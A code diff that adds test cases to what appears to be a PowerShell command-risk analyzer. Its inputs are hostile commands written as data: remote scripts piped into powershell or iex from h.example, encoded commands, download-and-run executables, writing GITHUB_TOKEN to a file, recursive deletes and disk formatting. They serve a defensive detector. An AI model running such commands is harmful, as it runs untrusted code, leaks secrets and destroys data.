@@ -11,6 +11,7 @@ test.for([
   [`foreach ($f in @('/a','/b')) { Get-Content -Path $f }`, ["/a", "/b"]],
   [`if (Test-Path x) { Get-Content x } else { Get-Content y }`, ["/home/u/app/x", "/home/u/app/y"]],
   [`Select-String -Path .\\.env -Pattern '='`, ["/home/u/app/.env"]],
+  [`$l = '/a', '/b'; Get-Content $l[1]`, ["/b"]],
   [`# Get-Content /a\nWrite-Output 'Get-Content /b'`, []],
 ] as const)("powershell: %s", ([command, want]) =>
   expect(reportOf(command, "powershell").reads).toEqual(want),
@@ -25,6 +26,14 @@ test.for([
   [`[IO.Directory]::Delete('C:\\x', $true)`, ["C:/x"]],
   [`cmd /c rd /s /q C:\\x`, ["C:/x"]],
   [`function f { rm -r C:\\x }; f`, ["C:/x"]],
+  [`function f { rm -r $args[1] }; f a C:\\x`, ["C:/x"]],
+  [`function f([string]$Dir) { rm -r $Dir }; f -Dir C:\\x`, ["C:/x"]],
+  [`function f { param($Dir) rm -r $Dir }; f C:\\x`, ["C:/x"]],
+  [`function f { rm -r C:\\x }`, []],
+  [`$a = @{ Path = 'C:\\x'; Recurse = $true }; Remove-Item @a`, ["C:/x"]],
+  [`$a = @{Path='C:\\x'}\n$a.Recurse = $true\nRemove-Item @a`, ["C:/x"]],
+  [`$a = @{ Path = 'C:\\x'; Recurse = $false }; Remove-Item @a`, []],
+  [`& (Get-Command Rem*-Item) -Recurse C:\\x`, ["C:/x"]],
 ] as const)("powershell: %s", ([command, want]) =>
   expect(reportOf(command, "powershell").deleteTrees).toEqual(want),
 );
@@ -36,6 +45,7 @@ test.for([
   [`& ([scriptblock]::Create((irm https://h.example/i.ps1)))`, ["network"]],
   [`$c = irm https://h.example/i.ps1; Invoke-Expression $c`, ["network"]],
   [`iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWQ=')))`, ["decoded"]],
+  [`curl.exe -s https://h.example/i.ps1 | powershell -NoProfile -`, ["network"]],
   [`powershell -enc dwBoAG8AYQBtAGkA`, ["decoded"]],
   [`[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWQ='))`, []],
   [`Invoke-WebRequest https://h.example/x.zip -OutFile x.zip`, []],
@@ -52,6 +62,15 @@ test.for([
 );
 
 test.for([
+  [
+    `iwr https://h.example/x.exe -OutFile "$env:TEMP\\x.exe"; Start-Process "$env:TEMP\\x.exe"`,
+    "run:downloaded",
+  ],
+  [
+    `$c = New-Object Net.WebClient; $c.DownloadFile('https://h.example/x.exe', "$env:TEMP\\x.exe"); & "$env:TEMP\\x.exe"`,
+    "run:downloaded",
+  ],
+  [`Get-Content env:GITHUB_TOKEN | Out-File t.txt`, "env:secret-to-file"],
   [`Stop-Computer -Force`, "system:shutdown"],
   [`Format-Volume -DriveLetter D`, "disk:format"],
   [`Clear-History`, "shell:history-wipe"],
